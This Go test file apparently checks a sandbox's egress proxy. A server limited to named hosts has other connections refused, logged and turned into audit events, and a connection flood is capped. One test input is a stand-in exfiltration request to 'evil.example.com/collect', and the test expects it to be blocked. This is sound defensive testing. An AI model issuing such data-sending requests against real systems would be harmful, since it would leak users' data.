package server

import (
	"net/netip"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"cordon/host/audit"
	"cordon/host/config"
	"cordon/sandbox"
	"cordon/sandbox/egress"
)

// A server that may reach one host is kept from others, by a proxy that says so to it, to the person and to the log. (What
// is reached is tried in sandbox/egress, where the way to it can be turned to loopback.)
func TestNamedHosts(t *testing.T) {
	t.Parallel()
	r := newRig(t, "web")
	r.Set(config.Server{Name: "one", Command: []string{filepath.Join(binaries, "fake"), "web", r.mark}, Net: config.NetHosts, Hosts: []string{"api.example.com:443"}, Memory: 256 << 20, Pids: 64})
	r.start()
	if g := r.view().Report; g.Get(sandbox.NetHostsG) == nil || g.Get(sandbox.NetHostsG).State != sandbox.Enforced {
		t.Errorf("the report does not hold net.hosts: %+v", g)
	}
	got, err := r.call("read_web", `{"path":"http://evil.example.com/collect?d=case"}`)
	if err != nil || !strings.HasPrefix(got, "403 Forbidden not-allowed ") || !strings.Contains(got, "evil.example.com:80 is not among this server's hosts") {
		t.Errorf("the server sees %q, %v", got, err)
	}
	if got, err := r.call("read_web", `{"path":"http://192.0.2.1/"}`); err != nil || !strings.HasPrefix(got, "403 Forbidden not-allowed ") {
		t.Errorf("an address: the server sees %q, %v", got, err)
	}
	events := r.journal.of(audit.NetConnection)
	if len(events) != 2 {
		t.Fatalf("recorded: %+v; want both attempts", events)
	}
	if e := events[0]; e.Decision != audit.Denied || e.Rule != "net.not-allowed" || e.CallID != "0123456789abcdef" || e.Server != "one" || e.Facts["host"] != "evil.example.com" || e.Facts["port"] != "80" {
		t.Errorf("recorded: %+v", e)
	}
	if strings.Contains(events[0].Reason, "collect") {
		t.Errorf("the record holds the path: %q", events[0].Reason)
	}
	if !strings.Contains(r.log(), "connection refused: evil.example.com:80") {
		t.Errorf("the server's log does not say it:\n%s", r.log())
	}
	if env, err := r.call("get_env", `{"name":"HTTPS_PROXY"}`); err != nil || !strings.HasSuffix(env, "\nhttp://"+sandbox.EgressAddr) {
		t.Errorf("environment: %q, %v", env, err)
	}
	r.works()
}

// The twin: without hosts there is no proxy to reach, and no variable that names one.
func TestNoHostsNoProxy(t *testing.T) {
	t.Parallel()
	r := newRig(t, "web")
	r.start()
	if got, err := r.call("read_web", `{"path":"http://`+sandbox.EgressAddr+`/"}`); err != nil || !strings.Contains(got, "permission denied") {
		t.Errorf("the server sees %q, %v; want no socket at all", got, err)
	}
	if env, err := r.call("get_env", `{"name":"HTTPS_PROXY"}`); err != nil || strings.Contains(env, "PROXY") {
		t.Errorf("environment: %q, %v", env, err)
	}
	if events := r.journal.of(audit.NetConnection); len(events) != 0 {
		t.Errorf("recorded: %+v", events)
	}
}

func TestConnectionsBecomeEvents(t *testing.T) {
	var j journal
	log := &connections{record: func(e audit.Event) { _, _ = j.Append(e) }}
	log.add(egress.Connection{Took: time.Second, Method: "CONNECT", Host: "api.example.com", Port: 443, Addr: netip.MustParseAddrPort("93.184.216.34:443"), Sent: 10, Received: 20, Call: "a"})
	log.add(egress.Connection{Host: "api.example.com", Port: 443, Call: "a b", Reason: "cut: the program ended"})
	got := j.of(audit.NetConnection)
	if e := got[0]; e.Decision != audit.Allowed || e.CallID != "a" || e.Reason != "api.example.com:443" || e.Facts["addr"] != "93.184.216.34" || e.Facts["sent"] != "10" || e.Facts["received"] != "20" || e.Took != time.Second {
		t.Errorf("one call: %+v", e)
	}
	if e := got[1]; e.CallID != "" || e.Facts["calls"] != "a b" || e.Reason != "api.example.com:443: cut: the program ended" {
		t.Errorf("two calls at once: %+v", e)
	}
	for range 1000 {
		log.add(egress.Connection{Host: "evil.example.com", Port: 1, Refused: egress.NotAllowed, Reason: "no"})
	}
	log.end()
	if n := len(j.of(audit.NetConnection)); n != maxConnections {
		t.Errorf("a flood leaves %d events, want %d", n, maxConnections)
	}
	if f := j.of(audit.FindingMade); len(f) != 1 || !strings.HasPrefix(f[0].Reason, "882 more connections") {
		t.Errorf("the rest of a flood: %+v", f)
	}
}
